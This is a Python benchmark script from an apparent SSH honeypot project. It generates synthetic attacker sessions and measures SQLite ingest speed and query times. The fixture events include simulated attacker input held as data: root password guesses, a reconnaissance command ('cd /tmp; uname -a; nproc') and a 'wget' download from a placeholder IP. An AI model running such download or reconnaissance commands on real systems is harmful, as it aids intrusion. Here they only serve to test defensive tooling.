"""Intake into SQLite: events per second by `store.intake.ingest`, and the ceiling of the plain driver in the same run.

`python bench/store.py [EVENTS]` prints one JSON line.
"""

from __future__ import annotations

import json
import os
import sqlite3
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

from urltrap.model.event import (
    ClientIdentified,
    CommandEntered,
    Connected,
    Disconnected,
    EventBase,
    LoginTried,
    ProgramRun,
    TerminalFrames,
    encode_event,
)
from urltrap.model.ids import new_ulid
from urltrap.store import open_store
from urltrap.store.intake import ingest
from urltrap.store.queries import overview, sessions, top

BATCH = 500
START = datetime(2026, 1, 1, tzinfo=UTC)


def events(count: int) -> list[EventBase]:
    """Sessions of 12 events each, as attackers make them: connect, log-ins, commands, programs, terminal, close."""
    made: list[EventBase] = []
    number = 0
    while len(made) < count:
        number += 1
        at = START + timedelta(seconds=number)
        session = new_ulid(1_767_225_600_000 + number, number.to_bytes(10, "big"))
        address = f"203.0.{number % 40}.{number % 251}"
        made += [
            Connected(
                session=session, seq=0, at=at, sensor="ssh", protocol="ssh", src_ip=address, src_port=1 + number % 9999,
                dst_ip="192.0.2.1", dst_port=22,
            ),
            ClientIdentified(session=session, seq=1, at=at, version=b"SSH-2.0-Go", hassh="0" * 32),
            *(
                LoginTried(
                    session=session, seq=2 + n, at=at, method="password", username=b"root",
                    password=b"pass%d" % (number * 7 % 900 + n), accepted=n == 2,
                )
                for n in range(3)
            ),
            CommandEntered(session=session, seq=5, at=at, mode="exec", text=b"cd /tmp; uname -a; nproc"),
            *(
                ProgramRun(session=session, seq=6 + n, at=at, argv=[b"uname", b"-a"], outcome="ran", status=0)
                for n in range(3)
            ),
            CommandEntered(session=session, seq=9, at=at, mode="exec", text=b"wget http://198.51.100.9/%d" % number),
            TerminalFrames(session=session, seq=10, at=at, frames=[(1, "o", b"x" * 200)]),
            Disconnected(session=session, seq=11, at=at, reason="client", duration_ms=900),
        ]  # fmt: skip
    return made[:count]


def driver_ceiling(folder: Path, batch: list[EventBase]) -> float:
    """Events per second that sqlite3 alone inserts as (session, seq, body) in the same batches and pragmas."""
    connection = sqlite3.connect(folder / "plain.db", isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA synchronous=NORMAL")
    connection.execute("CREATE TABLE e (session TEXT, seq INT, body BLOB, PRIMARY KEY (session, seq))")
    begin = time.perf_counter()
    for start in range(0, len(batch), BATCH):
        connection.execute("BEGIN IMMEDIATE")
        rows = [(event.session, event.seq, encode_event(event)) for event in batch[start : start + BATCH]]
        connection.executemany("INSERT INTO e VALUES (?,?,?)", rows)
        connection.execute("COMMIT")
    return len(batch) / (time.perf_counter() - begin)


def main() -> None:
    """Measure and print."""
    count = int(sys.argv[1]) if len(sys.argv) > 1 else 24_000
    made = events(count)
    with tempfile.TemporaryDirectory(dir=os.environ.get("BENCH_DIR")) as name:
        folder = Path(name)
        store = open_store(str(folder / "store.db"))
        begin, cpu = time.perf_counter(), time.process_time()
        for start in range(0, count, BATCH):
            ingest(store, "trap-0", made[start : start + BATCH], (1, start + BATCH))
        seconds, cpu = time.perf_counter() - begin, time.process_time() - cpu
        begin = time.perf_counter()
        for start in range(0, count, BATCH):
            ingest(store, "trap-0", made[start : start + BATCH], (1, start + BATCH))
        again = time.perf_counter() - begin
        queries = {}
        for title, ask in {
            "counters": lambda: overview.counters(store, START),
            "top_passwords": lambda: top.top(store, "password"),
            "sessions": lambda: sessions.page(store),
        }.items():
            begin = time.perf_counter()
            ask()
            queries[title] = round((time.perf_counter() - begin) * 1000, 2)
        size = (folder / "store.db").stat().st_size
        store.close()
        ceiling = driver_ceiling(folder, made)
    print(
        json.dumps(
            {
                "bench": "store",
                "events": count,
                "events_per_second": round(count / seconds),
                "events_per_cpu_second": round(count / cpu),
                "repeated_per_second": round(count / again),
                "plain_sqlite_per_second": round(ceiling),
                "bytes_per_event": round(size / count),
                "query_ms": queries,
            }
        )
    )


if __name__ == "__main__":
    main()
